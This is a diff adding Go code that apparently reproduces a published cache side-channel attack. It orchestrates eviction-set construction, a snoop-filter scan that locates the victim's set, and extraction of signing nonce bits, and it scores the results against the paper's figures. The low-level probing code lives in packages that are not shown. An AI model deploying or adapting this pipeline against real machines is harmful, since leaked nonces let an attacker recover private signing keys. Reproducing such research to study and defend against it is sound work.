@@ -1,0 +1,100 @@
+package attack
+
+import (
+	"repro/internal/clock"
+	"repro/internal/evset"
+	"repro/internal/probe"
+	"repro/internal/psd"
+	"repro/internal/stats"
+)
+
+// E2EOptions configures the end-to-end run (§7.3 protocol).
+type E2EOptions struct {
+	// Bulk configures Step 1 (eviction-set construction).
+	Bulk evset.BulkOptions
+	// ScanTimeout bounds Step 2 (60 s for PageOffset in the paper).
+	ScanTimeout clock.Cycles
+	// Traces is the number of signings monitored in Step 3 (paper: 10).
+	Traces int
+}
+
+// DefaultE2EOptions returns the paper's PageOffset protocol.
+func DefaultE2EOptions() E2EOptions {
+	return E2EOptions{
+		Bulk: evset.BulkOptions{
+			Algo:   evset.BinSearch{},
+			PerSet: evset.FilteredOptions(),
+		},
+		ScanTimeout: clock.FromMillis(60_000),
+		Traces:      10,
+	}
+}
+
+// E2EResult reports one end-to-end attack (§7.3).
+type E2EResult struct {
+	// Step 1.
+	SetsBuilt int
+	BuildTime clock.Cycles
+	// Step 2.
+	Scan ScanResult
+	// Step 3: per-signature extraction fractions and error rates.
+	Fractions  []float64
+	ErrorRates []float64
+	// Totals.
+	TotalTime clock.Cycles
+	// SignalFound is the paper's per-host success notion: a potential
+	// target set was identified and produced a signal.
+	SignalFound bool
+}
+
+// MedianFraction returns the median of the per-trace extracted-bit
+// fractions (the paper's headline number: 81%).
+func (r E2EResult) MedianFraction() float64 { return stats.Median(r.Fractions) }
+
+// MeanFraction returns the mean extracted-bit fraction (paper: 68%).
+func (r E2EResult) MeanFraction() float64 { return stats.Mean(r.Fractions) }
+
+// MeanErrorRate returns the mean bit error rate (paper: 3%).
+func (r E2EResult) MeanErrorRate() float64 { return stats.Mean(r.ErrorRates) }
+
+// RunEndToEnd executes Steps 1–3 against this session's victim using
+// pre-trained classifiers: build eviction sets at the victim's page
+// offset, identify the target SF set with the PSD scanner while
+// triggering signings, then monitor `Traces` further signings and
+// extract their nonce bits.
+func (s *Session) RunEndToEnd(scanner *psd.Scanner, ex *Extractor, opt E2EOptions) E2EResult {
+	t0 := s.H.Clock().Now()
+	res := E2EResult{}
+
+	// Step 1: eviction sets for all SF sets at the target page offset.
+	bulk := s.BuildEvictionSets(opt.Bulk)
+	res.SetsBuilt = len(bulk.Sets)
+	res.BuildTime = bulk.Duration
+	if len(bulk.Sets) == 0 {
+		res.TotalTime = s.H.Clock().Now() - t0
+		return res
+	}
+
+	// Step 2: find the target set.
+	res.Scan = s.ScanForTarget(bulk.Sets, scanner, ScanOptions{Timeout: opt.ScanTimeout})
+	if !res.Scan.Found {
+		res.TotalTime = s.H.Clock().Now() - t0
+		return res
+	}
+	res.SignalFound = true
+
+	// Step 3: monitor `Traces` signings and extract the nonce bits.
+	m := probe.NewMonitor(s.Env, probe.Parallel, res.Scan.Set.Lines)
+	for i := 0; i < opt.Traces; i++ {
+		rec := s.TriggerOneSigning()
+		// Capture from just before the request through its end.
+		dur := rec.End - s.H.Clock().Now() + 50_000
+		tr := m.Capture(dur)
+		bits := ex.Extract(tr)
+		sc := ScoreExtraction(bits, rec, ex.IterCycles)
+		res.Fractions = append(res.Fractions, sc.Fraction())
+		res.ErrorRates = append(res.ErrorRates, sc.ErrorRate())
+	}
+	res.TotalTime = s.H.Clock().Now() - t0
+	return res
+}
